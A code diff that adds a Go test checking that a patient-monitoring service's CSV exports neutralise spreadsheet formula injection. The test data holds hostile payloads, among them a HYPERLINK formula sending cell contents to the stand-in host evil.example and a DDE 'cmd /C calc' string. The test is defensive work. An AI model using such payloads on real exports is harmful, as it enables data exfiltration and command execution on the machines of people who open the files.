@@ -339,3 +339,60 @@ func TestPatientSetupProfiles(t *testing.T) {
 		})
 	}
 }
+
+// TestCSVFormulaInjection: text a device or a clinician wrote that a
+// spreadsheet would run as a formula (= + - @, tab, CR first) is written
+// as text in doses.csv and readings.csv (OWASP: a leading '), and numbers
+// stay numbers.
+func TestCSVFormulaInjection(t *testing.T) {
+	e := newEnv(t)
+	p, err := e.store.Authenticate(e.ctx, e.tokA)
+	if err != nil {
+		t.Fatal(err)
+	}
+	sched := t0.Add(-2 * time.Hour)
+	dose := `=HYPERLINK("http://evil.example/?"&A1,"open")`
+	b := &uplink.Batch{Version: uplink.Version, Device: e.devA.ID, Log: "l1", Heartbeat: uplink.Heartbeat{Time: t0},
+		Events: []uplink.Event{
+			{Seq: 1, ID: "e1", Time: sched, Kind: "dose_due", DoseID: dose, Scheduled: sched, Medication: "+cmd|' /C calc'!A0"},
+			{Seq: 2, ID: "e2", Time: sched.Add(time.Minute), Kind: "skipped", DoseID: dose, Scheduled: sched, Medication: "+cmd|' /C calc'!A0", Detail: "by=@SUM(1+1)"},
+			{Seq: 3, ID: "e3", Time: sched.Add(time.Minute), Kind: "dose_due", DoseID: "\tm@x", Scheduled: sched, Medication: "m"},
+			{Seq: 4, ID: "e4", Time: sched.Add(2 * time.Minute), Kind: "missed", DoseID: "\tm@x", Scheduled: sched, Medication: "m"},
+		},
+		Readings: []uplink.Reading{{Seq: 1, ID: "r1", Quantity: "temperature", Value: -1.5, Unit: "-1+2", Time: sched,
+			Device: "@evil", Original: "\r=2", Unreliable: []string{"=bad"}}}}
+	if _, err := e.store.Ingest(e.ctx, p, b, ""); err != nil {
+		t.Fatal(err)
+	}
+	if err := e.store.MarkFalseMiss(e.ctx, CLI("test"), e.patA.ID, "\tm@x", "=1+1 taken from a blister pack", SourceClinician); err != nil {
+		t.Fatal(err)
+	}
+	numeric := map[string]bool{"delay_min": true, "value": true}
+	for _, file := range []string{"doses.csv", "readings.csv"} {
+		w := e.do("GET", "/patients/"+e.patA.ID+"/"+file+"?days=2", "Bearer "+e.apiAlice, "")
+		rows, err := csv.NewReader(bytes.NewReader(w.Body.Bytes())).ReadAll()
+		if err != nil || len(rows) < 2 {
+			t.Fatalf("%s = %d %s (%v), want a header and rows", file, w.Code, w.Body, err)
+		}
+		quoted := 0
+		for _, row := range rows[1:] {
+			for i, cell := range row {
+				if numeric[rows[0][i]] || cell == "" {
+					continue
+				}
+				if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("%s: %s = %q, a formula a spreadsheet would run", file, rows[0][i], cell)
+				}
+				if cell[0] == '\'' {
+					quoted++
+				}
+			}
+		}
+		if quoted == 0 {
+			t.Errorf("%s has no neutralised cell:\n%s", file, w.Body)
+		}
+		if file == "readings.csv" && !slices.Contains(rows[1], "-1.5") {
+			t.Errorf("readings.csv row %q: the value -1.5 should stay a number", rows[1])
+		}
+	}
+}
